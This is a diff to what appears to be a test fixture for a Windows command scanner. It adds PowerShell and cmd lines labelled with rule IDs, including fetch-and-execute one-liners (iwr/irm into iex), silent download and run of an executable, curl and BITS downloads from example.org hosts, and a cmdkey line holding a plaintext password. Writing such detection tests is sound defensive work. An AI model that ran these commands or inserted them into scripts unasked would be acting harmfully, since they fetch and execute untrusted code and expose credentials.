@@ -50,10 +50,23 @@ WINDOWS = [
     ("SRC001", "& ([scriptblock]::Create((irm https://x.example.org/c.ps1))) -Version 1"),
     ("USR008", "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0"),
     ("USR008", "Enable-PSRemoting -Force"),
+    ("SRC001", "$s = (iwr -useb https://x.example.org/in.ps1).Content; iex $s"),
+    ("SRC001", 'iex "& { $(irm https://x.example.org/p.ps1) } -UseMSI"'),
+    ("SRC002", "iwr -Uri ('https://x.example.org/{0}.zip' -f $env:V) -OutFile t.zip"),
+    (
+        "SRC002",
+        "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('https://x.example.org/u.exe', 'u.exe'); u.exe /S",
+    ),
+    ("SRC002", "cmd /c curl -SL --output vs.exe https://x.example.org/vs.exe"),
+    ("SRC003", "Start-BitsTransfer http://x.example.org/z.zip z.zip"),
+    ("SRC003", "choco source add -n=x -s http://c.example.org/nuget"),
+    ("SEC003", "cmdkey /add:srv /user:u /pass:S3cr3tPw9"),
 ]
 WINDOWS_SPARES = [
     ("SRC001", "irm https://x.example.org/v.json | Select-Object version; [scriptblock]::Create('1+1')"),
     ("USR008", "Add-WindowsCapability -Online -Name OpenSSH.Client~~~~0.0.1.0"),
+    ("SRC001", "$s = (iwr -useb https://x.example.org/v.txt).Content; iex $t"),
+    ("SRC002", "$v = Invoke-RestMethod -Uri ('https://x.example.org/{0}.json' -f $env:V); Write-Host $v"),
     (
         "SRC002",
         "Invoke-WebRequest https://x.example.org/y.exe -OutFile y.exe; "
